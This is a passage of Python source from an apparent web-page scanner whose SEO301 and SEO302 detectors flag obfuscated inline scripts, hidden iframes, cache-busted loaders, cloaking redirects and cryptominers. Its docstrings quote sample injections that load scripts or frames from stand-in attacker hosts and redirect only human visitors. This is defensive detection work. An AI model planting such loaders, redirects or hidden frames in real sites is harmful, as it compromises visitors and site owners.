# entry script (``/``, ``/?x=y``, ``/index.php``, ``/in.php``) on a bare or www host, named
# nowhere else on the page, pasted where a tool that appends to a file puts it: the very first
# thing in the body, or the last thing in the document. Each of these is weak alone (measured
# on the corpus); together they are what an injection looks like.

_ENTRY_PATH = rx(
    "SEO302.entry_path",
    r"""/?+(?:(?:index|default|home|main)\.[a-z]{2,5}+/?+)?+""",
    re.IGNORECASE,
    worst_case="/index.",
)
_ONE_SEGMENT = rx("SEO302.one_segment", r"""/[A-Za-z0-9_-]{1,16}+(?:\.[a-z]{2,5}+)?+/?+""", worst_case="/a")
# the end of a document: only closing tags, comments and whitespace follow
_TRAILER = rx(
    "SEO302.trailer",
    r"""(?:\s++|</[A-Za-z][\w:-]{0,20}+\s*+>|<!--[^<>]{0,400}+>)*+""",
    worst_case="<!--",
)
# the start of a body: only wrapper tags and whitespace come before
_LEADER = rx(
    "SEO302.leader",
    r"""(?:\s++|<(?:div|span|p|center|font|section)\b[^<>]{0,300}+>)*+""",
    re.IGNORECASE,
    worst_case="<div ",
)
# a value appended to a URL literal that changes on every page view (Math.random(), Date.now(),
# new Date().getTime()): the loaded code can never be cached, so each visit gets a fresh payload
_CACHE_BUSTER = rx(
    "SEO302.cache_buster",
    r"""["'`]\s*+\+\s*+\(?+\s*+(?:Math\s*+\.\s*+(?:random|floor|round|ceil)|Date\s*+\.\s*+now|\(?+\s*+new\s++Date|\+\s*+new\s++Date)""",
    worst_case="' + (",
)
# an account, site or campaign identifier in a URL: what a vendor's per-customer tag carries
_IDENTIFIER = rx("SEO302.identifier", r"""\d{3,}+|[A-Za-z0-9_-]{16,}+|[0-9a-fA-F]{12,}+""", worst_case="a")
_STRING_LIT = rx("SEO302.string_literal", r"'[^'\\\n]{0,200}+'|\"[^\"\\\n]{0,200}+\"", worst_case="'a")
_URL_REST = rx("SEO302.url_rest", r"""[^"'`\s\\<>]{0,400}+""", worst_case="a")
# file names of popular libraries and tags: an unrelated, unlisted host that serves one under
# that name is disguising its script (sites load these from themselves or from a listed CDN)
_LIBRARY_NAME = rx(
    "SEO302.library_name",
    r"""(?:^|[/_.-])(jquery|bootstrap|angular|react|vue|lodash|underscore|moment|swfobject|modernizr|analytics|gtag|fbevents"""
    r"""|ga|gtm|urchin)"""
    r"""(?:[.-](?!js$)[\w-]{1,20}+){0,8}+\.js$""",
    re.IGNORECASE,
    worst_case="/jquery.",
)


_CONCAT = rx("SEO302.concat", r"""["'`]\s*+\+""", worst_case="'")
_WRITTEN_DIM = rx(
    "SEO302.written_dim",
    r"""\b(width|height)\s*+=\s*+\\?+["']?+\s*+(\d{1,5}+)""",
    re.IGNORECASE,
    worst_case="width=",
)


def _hidden_written(tag: str) -> bool:
    """A tag written by a script is 0-2 px in both dimensions, or hidden by its inline style."""
    low = tag.lower().replace(" ", "")
    if "display:none" in low or "visibility:hidden" in low:
        return True
    dims = {m.group(1).lower(): int(m.group(2)) for m in _WRITTEN_DIM.finditer(tag)}
    return len(dims) == 2 and max(dims.values()) <= 2


@dataclass(slots=True)
class Placement:
    """Why a hidden frame or a script-built loader looks pasted in rather than signed up for."""

    bare: bool = False  # the host is the registered domain or www.<domain>
    entry: str = ""  # "home page" | "entry script" | "" (a vendor-like endpoint)
    once: bool = False  # the domain is named nowhere else on the page
    edge: str = ""  # "first in the body" | "end of the document" | ""
    cache_buster: bool = False  # loaders: a random or time value appended to the URL
    no_identifier: bool = False  # loaders: no account or site identifier in the URL
    noscript: bool = False  # inside <noscript>: a tag's fallback for visitors without scripts

    def reasons(self) -> list[str]:
        out = []
        if self.entry:
            out.append("loads a site's home page" if self.entry == "home page" else "loads a one-word entry script")
        if self.cache_buster:
            out.append("cache-busted URL")
        if self.no_identifier and not self.entry:
            out.append("no account identifier in the URL")
        if self.once:
            out.append("host named nowhere else on the page")
        if self.edge:
            out.append(self.edge)
        return out


def _bare_host(host: str, dom: str) -> bool:
    return bool(dom) and (host == dom or host == "www." + dom)


def _entry_kind(url: str) -> str:
    """'home page' for /, /?q, /index.php; 'entry script' for one short segment (/go, /in.php)."""
    i = url.find("//")
    rest = url[i + 2:] if i >= 0 else url
    j = rest.find("/")
    if j < 0:
        return "home page"
    path = rest[j:]
    for sep in ("?", "#"):
        k = path.find(sep)
        if k >= 0:
            path = path[:k]
    if _ENTRY_PATH.fullmatch(path):
        return "home page"
    if _ONE_SEGMENT.fullmatch(path):
        return "entry script"
    return ""


def _edge(src: str, start: int, end: int) -> str:
    """Whether src[start:end] is the first thing in the body or the last thing in the document."""
    if start < 0 or end <= start:
        return ""
    if len(src) - end <= 4000 and _TRAILER.fullmatch(src, end):
        return "end of the document"
    lo = max(0, start - 1200)
    b = src.rfind("<body", lo, start)
    if b < 0:
        b = src.rfind("<BODY", lo, start)
    if b >= 0:
        k = src.find(">", b, start)
        if k >= 0 and _LEADER.fullmatch(src, k + 1, start):
            return "first in the body"
    return ""


def _once(src: str, dom: str, element: str) -> bool:
    return src.count(dom) <= max(1, element.count(dom))


def _element_span(src: str, needle: str, tag: str) -> tuple[int, int]:
    """Start and end in src of the <tag> element that contains `needle` (-1, -1 if not found)."""
    if not needle:
        return -1, -1
    i = src.find(needle)
    if i < 0:
        return -1, -1
    start = src.rfind("<", max(0, i - 2000), i)
    while start >= 0 and src[start + 1:start + 1 + len(tag)].lower() != tag:
        start = src.rfind("<", max(0, i - 2000), start)
    if start < 0:
        return -1, -1
    close = src.find("</" + tag, i, i + 200_000)
    if close < 0:
        close = src.find("</" + tag.upper(), i, i + 200_000)
    if close < 0:
        return start, src.find(">", i) + 1
    gt = src.find(">", close)
    return start, (gt + 1 if gt >= 0 else len(src))


def frame_placement(src: str, f) -> Placement:
    pl = Placement(bare=_bare_host(f.host, f.domain), entry=_entry_kind(f.src))
    if pl.entry == "entry script" and _IDENTIFIER.search(f.src.split("//", 1)[-1].partition("/")[2]):
        pl.entry = ""  # /tags?id=pr_8f3k..., /cm?cid=20730138: a vendor's per-customer endpoint
    raw = str(f.attrs.get("src") or "").strip()
    start, end = _element_span(src, raw, "iframe") if src else (-1, -1)
    if start < 0 and src:
        start, end = _element_span(src, raw, "frame")
    element = src[start:end] if start >= 0 else raw
    pl.once = _once(src, f.domain, element) if src else False
    pl.edge = _edge(src, start, end)
    if f.hidden is not None and f.hidden.startswith("noscript"):
        pl.noscript = True
    elif start > 0:
        ns = src[max(0, start - 400):start].lower()
        k = ns.rfind("<noscript")
        pl.noscript = k >= 0 and "</noscript" not in ns[k:]
    return pl


def loader_placement(src: str, js: str, it: Intent) -> Placement:
    """Signals of a script-built loader (createElement / document.write) to an ordinary host."""
    url = it.url
    host = host_of(url if url[:4].lower() == "http" else "http:" + url) if url else ""
    pl = Placement(bare=_bare_host(host, it.domain))
    j = js.find(url) if url else -1
    if j < 0:
        return pl
    m = _URL_REST.match(js, j + len(url))
    full = js[j:m.end()]
    pl.cache_buster = bool(_CACHE_BUSTER.match(js, m.end(), m.end() + 60))
    k = full.find("//")
    rest = full[k + 2:] if k >= 0 else full
    slash = rest.find("/")
    # the identifier may be concatenated after the cache-buster: look at the string literals of
    # the rest of the statement too ('...show/?' + Math.random() + '=14968&' ...)
    stmt = js[m.end() + 1:m.end() + 400].split(";", 1)[0]
    pl.no_identifier = not _IDENTIFIER.search(rest[slash:] if slash >= 0 else "") and not any(
        _IDENTIFIER.search(lit.group(0)) for lit in _STRING_LIT.finditer(stmt))
    if pl.bare and not _CONCAT.match(js, m.end(), m.end() + 20):
        # a written 0-2 px or hidden <iframe> of a fixed URL: judged like an iframe in the markup
        lt = js.rfind("<", max(0, j - 400), j)
        tag = js[lt:js.find(">", j, j + 800)] if lt >= 0 else ""
        if tag[1:7].lower() in ("iframe", "frame ") and (_hidden_written(tag)):
            pl.entry = _entry_kind(full)
            if pl.entry == "entry script" and not pl.no_identifier:
                pl.entry = ""
    if src and pl.bare and (pl.cache_buster or pl.entry):  # count and place only candidates (rare)
        start, end = _element_span(src, js[:120].strip()[:80], "script")
        element = src[start:end] if start >= 0 else js
        pl.once = _once(src, it.domain, element)
        pl.edge = _edge(src, start, end)
    return pl


def analyse(page: Page) -> ScriptReport:
    """Everything the SEO3xx detectors need, computed once per page."""
    cached = getattr(page, "_seo3_report", None)
    if cached is not None:
        return cached
    site = page.site
    rep = ScriptReport([], 0.0, [], set(), [], [], [], [], set())
    rep.frame_signals, rep.loader_signals, rep.disguised_srcs = [], {}, []
    src = page.source or ""
    for i, s in enumerate(page.scripts):
        if s.src:
            rep.n_scripts += 1
            dom = s.domain
            if not dom:
                continue
            if not related(site, dom):
                rep.n_third_party += 1
            low_src = s.src.lower()
            if ("coin" in low_src or "mine" in low_src or "crypt" in low_src or "minr" in low_src
                    or "ppoi" in low_src) and any(k in low_src for k in MINER_MARKERS):
                rep.miner_srcs.append((s.src, dom))
            if foreign(site, dom):
                rep.unknown_script_domains.add(dom)
                shape = url_shape(s.src, s.host)
                if shape:
                    rep.suspicious_srcs.append((s.src, dom, tuple(shape)))
                elif len(rep.disguised_srcs) < 3 and _bare_host(s.host, dom) and ".js" in low_src:
                    path = low_src.split("?", 1)[0].split("#", 1)[0]
                    lib = _LIBRARY_NAME.search(path[path.find(s.host) + len(s.host):] if s.host in path else path)
                    if lib:
                        raw = str(s.attrs.get("src") or "").strip()
                        start, end = _element_span(src, raw, "script")
                        pl = Placement(bare=True, once=_once(src, dom, src[start:end] if start >= 0 else raw),
                                       edge=_edge(src, start, end))
                        if pl.once:
                            rep.disguised_srcs.append((s.src, dom, lib.group(1).lower(), pl))
            continue
        body = s.body
        if not body or s.type not in EXECUTABLE_TYPES and not s.type.endswith("javascript"):
            continue
        rep.n_scripts += 1
        js = _view(body)
        toks = script_tokens(js)
        if _unicode_escapes_near_ends(js) and _letter_escapes(js) >= 8:
            # words spelled in \u escapes (an obfuscator's string table), not JSON's \u003c or \u00e9
            toks = toks | {"\\u"}
        if not toks:
            continue  # no decoder, no URL, no navigation, no miner: nothing injected code needs
        obf_tech: list[str] = []
        has_eval = "eval" in toks
        if has_eval and ("p,a,c,k" in js or "p, a, c, k" in js) and _PACKER.search(js):
            obf_tech.append("packer")
        decoders = "atob" in toks or "unescape" in toks or "fromCharCode" in toks
        m = _find_near(js, ("atob", "unescape", "fromCharCode", "decodeURI"), _DECODE_CALL,
                       before=60, after=4) if decoders else None
        if m:
            obf_tech.append(f"{m.group(1)}({m.group(2)}(...))")
        dens = _escape_density(js) if "\\x" in toks else 0.0
        rep.escape_density = max(rep.escape_density, dens)
        if dens >= 0.5 and len(js) >= 200:
            obf_tech.append("escape-sequence strings")
        if has_eval and len(js) >= 400 and "eval(" in js and _LONG_B64.search(js):
            obf_tech.append("eval with long encoded string")
        decoded_intents: list[Intent] = []
        # decode what is run (obf_tech), and small scripts that merely decode something:
        # injected snippets are short, while bundles use unescape/atob for their own ends
        # a short script made of escape sequences hides its strings (a URL in \x escapes) as
        # surely as one that calls a decoder
        escapes = len(js) < 6000 and "\\x" in toks and js.count("\\x") >= 12
        if obf_tech or ((decoders or escapes) and len(js) < 6000):
            payloads, techs = decode_layers(js)
            for p in payloads[:12]:
                for it in script_intents(p, site):
                    words = _gate_words(it.gates, it.disguise) if it.kind == "writes-resource" else ""
                    if words and words not in it.detail:
                        it.detail += words
                    decoded_intents.append(it)
            if payloads and not decoded_intents and (obf_tech or "escape sequences" in techs):
                # encoded strings that name a foreign host, used by code that builds elements
                # or navigates: the pieces are assembled at run time (e.g. a hex-escaped URL
                # put in a createElement('script') by array index)
                if toks & {"createElement", "write", "location", "open("}:
                    for p in payloads[:12]:
                        tgt = _foreign_target(p if "//" in p else "", site)
                        if tgt:
                            decoded_intents.append(Intent("writes-resource", f"assembles a URL of {tgt[1]} from encoded "
                                                          "strings and loads or opens it", tgt[0], tgt[1], tgt[2]))
                            break
                if decoded_intents and not obf_tech:
                    obf_tech.append("escape-encoded URL")
            if obf_tech:
                rep.obfuscated.append((i, list(dict.fromkeys(obf_tech + techs)), decoded_intents, js[:300]))
                rep.obf_score = max(rep.obf_score, min(1.0, 0.4 + 0.2 * len(obf_tech) + (0.4 if decoded_intents else 0)))
            for it in decoded_intents:
                rep.intents.append((it, i, True))
        plain_intents = script_intents(js, site, toks)
        if not decoded_intents and (
                (("\\x" in toks or "\\u" in toks) and _letter_escapes(js) >= 8)
                or ("fromCharCode" in toks and (_CODE_ARGS.search(js) or _code_array_near_ends(js) or _CODE_STRING.search(js)))
                or ("atob" in toks and _STRING_TABLE.search(js))
                # short scripts (injected snippets are): a char-code array whose decoder is not
                # named plainly, or a URL cut into pieces
                or (len(js) < 2000 and not toks.isdisjoint(_ACTION_TOKENS) and (
                    _CODE_ARRAY.search(js) or ("+" in js and _split_url(js))
                    or (".join(" in js and (_CHAR_LIST_JOIN.search(js) or _PIECES_JOIN.search(js)
                                            or (_PIECES_ARRAY.search(js) and _NAMED_JOIN.search(js))))
                    or (".concat(" in js and _CONCAT_CALL.search(js))))):
            # literals decoded in place: escapes, char-code arrays, string tables (see resolve_code)
            res = resolve_code(js)
            if res is not None:
                seen = {(it.kind, it.domain) for it in plain_intents}
                # hidden: neither the URL nor its domain is in the code as written ('ht'+'tp://ads.host'
                # is how old ad tags were written, and hides nothing)
                found = [it for it in script_intents(res.code, site, variables=True)
                         if (it.kind, it.domain) not in seen and it.url and it.url not in js and it.domain not in js]
                if not found:
                    voc = vocabulary_intent(res, js, site)
                    found = [voc] if voc is not None and (voc.kind, voc.domain) not in seen else []
                kept = []
                for it in found:
                    it.resolved = True
                    if not it.gates:
                        it.gates = _gates(res.code)
                    if resolved_tier(it) is not None:
                        words = _gate_words(it.gates, it.disguise)
                        if words not in it.detail:
                            it.detail = it.detail.removesuffix(_gate_words(it.gates)) + words
                        kept.append(it)
                if kept:
                    techs = list(dict.fromkeys(res.techniques))
                    rep.obfuscated.append((i, techs, kept, js[:300]))
                    rep.obf_score = max(rep.obf_score, min(1.0, 0.4 + 0.2 * len(techs) + 0.4))
                    for it in kept[:6]:
                        rep.intents.append((it, i, True))
        for it in plain_intents:
            rep.intents.append((it, i, False))
            if it.kind == "writes-resource" and len(rep.loader_signals) < 8:
                rep.loader_signals[(i, it.url)] = loader_placement(src, js, it)
    # scripts pasted outside the document (str.find first: the tags are near the ends)
    if src:
        head_end = min(len(src), 65536)
        i = src.find("<html", 0, head_end)
        if i < 0:
            m = _HTML_OPEN.search(src, 0, head_end) if "<HTML" in src[:head_end] or "<Html" in src[:head_end] else None
            i = m.start() if m else -1
        if i > 0 and _TAG_SCRIPTISH.search(src, 0, i):
            rep.outside_html.extend(_outside("before <html>", src[:i], site))
        tail0 = max(0, len(src) - 65536)
        j = src.rfind("</html", tail0)
        if j < 0:
            m = _HTML_CLOSE.search(src, tail0) if "</HTML" in src[tail0:] or "</Html" in src[tail0:] else None
            j = m.start() if m else -1
        if j >= 0:
            k = src.find(">", j)
            if k >= 0 and _TAG_SCRIPTISH.search(src, k):
                rep.outside_html.extend(_outside("after </html>", src[k + 1:], site))
    for f in page.iframes:
        dom = f.domain
        reasons = []
        if _tiny(f.width) and _tiny(f.height):
            reasons.append(f"{f.width or '?'}x{f.height or '?'} px")
        if f.hidden:
            reasons.append(f"hidden ({f.hidden})")
        is_foreign = foreign(site, dom)
        if is_foreign:
            rep.foreign_frames.add(dom)
        if reasons and dom and not related(site, dom) and not is_known_domain(dom):
            rep.tiny_frames.append((f, reasons, url_shape(f.src, f.host)))
            rep.frame_signals.append(frame_placement(src, f) if len(rep.frame_signals) < 10 else Placement())
    try:
        page._seo3_report = rep  # type: ignore[attr-defined]
    except AttributeError:
        pass
    return rep


def _tier(shape, boost: bool = False, act: str = "") -> tuple[str, str] | None:
    """(severity, confidence) from a foreign resource's shape; None when it is not worth a finding.

    `act`: how the resource is used the way injections use one ("frame": a 0-2 px or CSS-hidden
    iframe; "loader": a script element written or created at run time); `boost`: other
    injection signs on the page (code outside <html>, obfuscated code).
    """
    strong = strong_shape(shape)
    weak = len(shape) - strong
    spam = any(r.startswith("spam vocabulary") for r in shape)
    only_tld = strong == 1 and not spam and not any(r.startswith(("raw IP", "port ")) for r in shape)
    if act and strong and not (act == "loader" and only_tld):
        # a hidden frame or a redirect to a throwaway-looking host; a loader too, unless a cheap
        # TLD is all there is (content-recommendation and analytics loaders live there too)
        return ("high", "high")
    if act and strong:
        return None  # a loader from a cheap TLD alone: a feature (writes_foreign_resource)
    if strong >= 2 or (strong and (weak or boost)):
        return ("high", "high" if (spam or boost) else "medium")
    if spam:
        return ("high", "medium")  # a host named after pills or casinos has little else to serve
    if any(r.startswith(("raw IP", "port ")) for r in shape):
        return ("medium", "low")
    # a cheap TLD alone: real services live there too (popin.cc, lura.live): a feature only
    if weak and boost:
        return ("medium", "low")
    return None


_CONDITIONAL = rx(
    "SEO303.conditional",
    r"""\b(?:if|switch|case|while|for|return)\b|&&|\|\||\?|\bfunction\s++[A-Za-z_$]|addEventListener|attachEvent"""
    r"""|\.on\s*+\(|\bon[a-z]{3,20}+\s*+=|click|submit|confirm\s*+\(|prompt\s*+\(""",
    worst_case="functio",
)


def _runs_at_load(js: str) -> bool:
    """A short script whose navigation runs as the page loads: no condition, no user action.

    Sites send readers elsewhere from jump menus, search forms, buttons and device checks; an
    injected redirect sends everyone, at once (``setTimeout(function(){top.location.replace(
    "...")},0)``), so that the page's own content is never seen.
    """
    body = js.strip()
    if len(body) > 400:
        return False
    code = _STRING_LIT.sub("''", body)
    return not _CONDITIONAL.search(code)


def _frame_placement_tier(pl: Placement) -> tuple[str, str] | None:
    """A hidden frame to an ordinary-looking host, judged by where it points and where it sits.

    On the corpus no hidden vendor frame loads a bare or www host's home page; one-word entry
    scripts (``/cm``, ``/info``) do, from vendors whose script is on the page too.
    """
    if not (pl.bare and pl.entry):
        return None
    if pl.entry == "home page":
        if pl.once and pl.edge:
            return ("high", "medium")
        if pl.once or pl.edge:
            return ("medium", "medium")
        return ("medium", "low")
    if not pl.once:
        return None
    return ("medium", "medium") if pl.edge else ("medium", "low")


def _loader_placement_tier(pl: Placement) -> tuple[str, str] | None:
    """A loader to an ordinary-looking host: bare host, cache-buster, no identifier, named once."""
    if not (pl.bare and pl.cache_buster and pl.no_identifier and pl.once):
        return None
    return ("high", "medium") if pl.edge else ("medium", "medium")


def _ev(it: Intent, extra: dict | None = None) -> dict:
    ev = {"where": "script", "url": it.url, "domain": it.domain, "detail": it.detail}
    if it.shape:
        ev["shape"] = list(it.shape)
    if extra:
        ev.update(extra)
    return ev


class ObfuscatedScript(Detector):
    """Obfuscated inline script that hides an injection (SEO301).

    Finds inline scripts that run encoded code (``eval(atob("..."))``, ``eval(unescape("%..."))``,
    ``eval(String.fromCharCode(...))``, Dean Edwards' ``eval(function(p,a,c,k,e,d)...)`` packer,
    long ``\\x`` escape strings) and decodes them. The finding is strong when the decoded code
    writes a script or iframe (``document.write``, ``createElement``, also called through a
    computed member: ``document[t[0]]('script')``) from, or redirects to, an unrelated and unlisted domain, or
    cloaks by referrer or user agent; obfuscation that decodes to something harmless (an
    e-mail address protector, an ad network's fallback) is only a feature.

    Code whose strings are all encoded is resolved in place: ``\\x``/``\\u`` escapes, arrays of
    char codes handed to any helper (``d([104,116,116,112,...])``) or decoded by a loop, ``map``
    or ``String.fromCharCode.apply``, char codes in a string, tag names spelled in codes
    (``createElement(String.fromCharCode(115,99,...))``), base64 entries, URL pieces joined
    (``[...].join('')``, ``''.concat(...)``, ``'<scr'+'ipt src="'+u``), and string tables read by
    index (``document[_0x3a1f[0]](_0x3a1f[1])``, also through an offset accessor or a literal
    rotation); the URL is followed from where it is decoded to where it is used (variables, an
    immediately invoked function's arguments). The target counts as hidden only when its domain
    is nowhere in the code as written (``'ht'+'tp://ads.example.com'`` hides nothing). An action
    found only this way is graded by agreement: the gates around it (visitors from a search
    engine, a crawler test, a login-cookie test that skips the site's owner, a once-per-visitor
    cookie or storage marker; a delay or a phones-only test counts half), a throwaway-looking
    host, a URL that passes for a popular library's (``jquery.min.js``, ``ga.js`` or a host named
    after jQuery, unlisted), and, only next to one of these, a once-per-page window flag or a URL
    that reports the visited page or referrer. None: no finding (a vendor's protected widget
    loading from its own host); one: medium; two or more: high/high. An action read only from a
    table's words (lookups not resolvable) is capped at high/medium.

    Example: ``var u=d([104,116,116,112,115,58,...]);if(!/bot|spider/i.test(navigator.userAgent)
    &&!localStorage.getItem('_x')){localStorage.setItem('_x',1);setTimeout(function(){
    location.replace(u)},1500)}``: a redirect of human visitors, once per browser.

    Example: ``<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vMTg1LjIz..."))</script>``
    that decodes to ``document.write('<script src="http://185.23.x.x/j.js">')``.


    Example: ``var k=[104,116,...],o='';for(...){o+=String.fromCharCode(k[i])}if(!window._l){
    window._l=1;document.write('<scr'+'ipt src="'+o+'"></scr'+'ipt>')}`` loading
    ``https://metrics-edge.top/js/jquery.min.js``: a cheap TLD and a library's file name on an
    unlisted host agree (high/high).
    """

    id = "SEO301"
    name = "obfuscated_script"
    kind = "script_injection"
    features = ("obf_score", "obf_scripts_log", "obf_with_intent", "packer", "eval_decode", "escape_density")
    html_only = frozenset(features)

    def detect(self, page: Page):
        if not page.is_html or not page.scripts:
            return [], {}
        rep = analyse(page)
        findings = []
        with_intent = 0.0
        packer = eval_decode = 0.0
        for idx, techs, intents, snip in rep.obfuscated:
            if "packer" in techs:
                packer = 1.0
            if any(t.startswith(("eval(", "Function(", "execScript")) for t in techs):
                eval_decode = 1.0
            if intents:
                with_intent = 1.0
                it = intents[0]
                strong = it.kind in ("referrer-cloak", "ua-cloak", "miner") or bool(it.shape) or it.kind == "writes-resource"
                sev, conf = "high", "high" if strong else "medium"
                if it.resolved:  # graded by how many signals agree (kept intents always have a tier)
                    sev, conf = resolved_tier(it) or ("medium", "low")
                findings.append(Finding(
                    self.id, self.kind, sev, conf,
                    f"obfuscated inline script ({', '.join(techs[:3])}) decodes to code that {it.detail}",
                    _ev(it, {"techniques": techs[:6], "script_index": idx, "snippet": snip}),
                ))
        feats = {
            "obf_score": rep.obf_score,
            "obf_scripts_log": math.log1p(len(rep.obfuscated)),
            "obf_with_intent": with_intent,
            "packer": packer,
            "eval_decode": eval_decode,
            "escape_density": rep.escape_density,
        }
        return findings, feats


class ForeignResource(Detector):
    """Scripts and iframes from unrelated, suspicious hosts (SEO302).

    Finds what injected code loads: ``<script src>`` from hosts that are neither the page's site
    nor a sister site nor common third-party infrastructure (``known_hosts.txt``) *and* look
    throwaway (a raw IP address, a cheap TLD, a random-looking name, an odd port, a long hex
    path, a name that spells spam vocabulary); code that writes such a script or iframe
    (``document.write('<script src=...')``, ``createElement('script')``); 0-2 px or hidden
    iframes from such hosts; cryptominers (Coinhive and its successors); and foreign scripts
    pasted before ``<html>`` or after ``</html>``. An unrelated script or a 1x1 iframe by itself
    is normal (widgets, regional analytics, tracking pixels) and is only counted in features.

    Injections to ordinary-looking hosts are told from vendor tags by where they point and where
    they sit: a 0-2 px or hidden iframe (in the markup or written by a script) that loads the home
    page or a one-word entry script (``/``, ``/?x=y``, ``/index.php``, ``/in.php``) of a bare or
    www host, rather than a service endpoint (``/tags?id=..``, ``/receiver.html``); a script-built
    loader from a bare or www host with a cache-buster (``+Math.random()``) and no account or site
    identifier in its URL; a script named like a popular library or tag (``jquery.min.js``,
    ``ga.js``) on an unrelated, unlisted host. Agreement raises the finding: the host named nowhere else on the
    page (a vendor usually has a script, preconnect or link there too), and the element placed
    first in the body or last in the document, where tools that append to files put it. Frames
    inside ``<noscript>`` are tag fallbacks and do not count.

    A plain (not encoded) loader of an unrelated, unlisted host that runs only for visitors from
    a search engine, or only for humans and once per visitor, is weak evidence that grows with
    the gates that agree; a crawler test alone is how consent managers skip bots and is not.

    Example: ``<iframe src="http://qwxzkrt.top/in.php" width="1" height="1"
    style="visibility:hidden">``.
    """

    id = "SEO302"
    name = "foreign_resource"
    kind = "script_injection"
    features = ("unknown_script_domains_log", "suspicious_script_hosts", "third_party_script_share",
                "writes_foreign_resource", "tiny_hidden_iframes_log", "tiny_foreign_iframe_suspicious",
                "foreign_iframe_domains_log", "outside_html", "miner", "hidden_frame_entry", "hidden_frame_once",
                "hidden_frame_entry_once_edge", "loader_agreement", "library_name_foreign_src", "foreign_at_edge")
    html_only = frozenset(features)

    def detect(self, page: Page):
        if not page.is_html:
            return [], {}
        rep = analyse(page)
        findings = []
        outside = bool(rep.outside_html)
        for url, dom, shape in rep.suspicious_srcs[:10]:
            tier = _tier(shape, boost=outside)
            why = ", ".join(shape)
            placement: list[str] = []
            if tier is None and strong_shape(shape) == 1 and any(r.startswith("cheap TLD") for r in shape):
                # a cheap TLD alone is common among services (popin.cc, lura.live), but they load
                # from a service subdomain and are named elsewhere on the page; a bare host named
                # nowhere else is how a pasted-in script looks
                host = host_of(url if url[:4].lower() == "http" else "http:" + url)
                if _bare_host(host, dom):
                    src = page.source or ""
                    start, end = _element_span(src, url.split("//", 1)[-1][:80], "script")
                    pl = Placement(bare=True, once=_once(src, dom, src[start:end] if start >= 0 else url),
                                   edge=_edge(src, start, end))
                    if pl.once:
                        tier = ("medium", "medium") if pl.edge else ("medium", "low")
                        placement = pl.reasons()
                        why = ", ".join(list(shape) + placement)
            if tier:
                ev = {"where": "html", "url": url, "domain": dom, "shape": list(shape),
                      "snippet": f'<script src="{url[:250]}">'}
                if placement:
                    ev["placement"] = placement
                findings.append(Finding(
                    self.id, self.kind, tier[0], tier[1],
                    f"script loaded from {dom}, unrelated to the site and unlisted ({why})", ev,
                ))
        writes = 0.0
        loader_agree = 0.0
        frame_entry = frame_once = frame_agree = 0.0
        at_edge = 0.0
        for it, idx, decoded in rep.intents:
            if it.kind != "writes-resource" or decoded:
                continue  # decoded ones are SEO301's
            writes = 1.0
            tier = _tier(it.shape, boost=outside, act="loader")
            gated = sum(g in STRONG_GATES for g in it.gates)
            if tier is None and (GATE_SEARCH in it.gates or gated >= 2):
                # a loader of an unlisted host that runs only for searchers, or only for humans and
                # once per visitor: weak alone (plain code, nothing hidden), stronger when gates
                # agree. A crawler test alone is how consent managers and widgets skip bots.
                n = agreement(it)
                tier = ("high", "medium") if n >= 3 else (("medium", "medium") if n >= 2 else ("medium", "low"))
                findings.append(Finding(
                    self.id, self.kind, tier[0], tier[1],
                    f"inline script {it.detail}, a host unrelated to the site and not a common third party,"
                    f" only for some visitors{_gate_words(it.gates)}",
                    _ev(it, {"script_index": idx, "gates": list(it.gates)}),
                ))
                continue
            pl = rep.loader_signals.get((idx, it.url))
            if pl is not None:
                loader_agree = max(loader_agree, (pl.bare + pl.cache_buster + pl.no_identifier + pl.once) / 4)
                at_edge = max(at_edge, float(bool(pl.edge) and pl.bare and (pl.cache_buster or bool(pl.entry))))
                if pl.entry:
                    frame_entry = max(frame_entry, 1.0 if pl.entry == "home page" else 0.5)
                    frame_agree = max(frame_agree, float(pl.once and bool(pl.edge)))
                if tier is None:
                    tier = _frame_placement_tier(pl) if pl.entry else _loader_placement_tier(pl)
                    if tier:
                        findings.append(Finding(
                            self.id, self.kind, tier[0], tier[1],
                            f"inline script {it.detail}, a host unrelated to the site and not a common third party,"
                            f" the way injected loaders do it ({', '.join(pl.reasons())})",
                            _ev(it, {"script_index": idx, "placement": pl.reasons()}),
                        ))
                    continue
            if tier:
                findings.append(Finding(
                    self.id, self.kind, tier[0], tier[1],
                    f"inline script {it.detail}, a host unrelated to the site and not a common third party"
                    f" ({', '.join(it.shape)})",
                    _ev(it, {"script_index": idx}),
                ))
        for (f, reasons, shape), pl in zip(rep.tiny_frames[:10], rep.frame_signals):
            # tracking pixels come as 1x1 iframes too: only a throwaway-looking host, other
            # injection signs on the page, or the shape of a pasted-in frame (a home page or an
            # entry script of a host named nowhere else, at the edge of the document) make one a
            # finding (the count stays a feature)
            noscript = pl.noscript or (f.hidden is not None and f.hidden.startswith("noscript"))
            if pl.bare and pl.entry and not noscript:
                frame_entry = max(frame_entry, 1.0 if pl.entry == "home page" else 0.5)
                frame_agree = max(frame_agree, float(pl.once and bool(pl.edge)))
            frame_once = max(frame_once, float(pl.once and not noscript))
            at_edge = max(at_edge, float(bool(pl.edge) and pl.bare and not noscript))
            tier = _tier(shape, boost=outside or bool(rep.obfuscated), act="frame")
            why = ", ".join(shape)
            if tier is not None:
                tier = ("high", tier[1])  # a hidden frame to a throwaway-looking host
            elif not noscript:
                tier = _frame_placement_tier(pl)
                why = ", ".join(pl.reasons())
            if tier is None:
                continue
            findings.append(Finding(
                self.id, self.kind, tier[0], tier[1],
                f"{' and '.join(reasons)} iframe loading {f.domain}, unrelated to the site"
                + (f" ({why})" if why else ""),
                {"where": "html", "url": f.src, "domain": f.domain, "hiding": "; ".join(reasons),
                 "shape": list(shape), "placement": pl.reasons(),
                 "snippet": f'<iframe src="{f.src[:200]}" width="{f.width}" height="{f.height}">'},
            ))
        lib_name = 0.0
        for url, dom, lib, pl in rep.disguised_srcs:
            lib_name = 1.0
            at_edge = max(at_edge, float(bool(pl.edge)))
            sev, conf = ("medium", "medium") if pl.edge else ("medium", "low")
            findings.append(Finding(
                self.id, self.kind, sev, conf,
                f"script named like the {lib} library loaded from {dom}, an unrelated host that is neither"
                f" the site nor a common CDN ({', '.join(pl.reasons())})",
                {"where": "html", "url": url, "domain": dom, "placement": pl.reasons(),
                 "snippet": f'<script src="{url[:250]}">'},
            ))
        miner = 0.0
        for src, dom in rep.miner_srcs[:3]:
            miner = 1.0
            findings.append(Finding(self.id, self.kind, "high", "high",
                                    f"cryptominer script loaded from {dom}",
                                    {"where": "html", "url": src, "domain": dom, "snippet": f'<script src="{src[:250]}">'}))
        for it, idx, decoded in rep.intents:
            if it.kind == "miner" and not decoded:
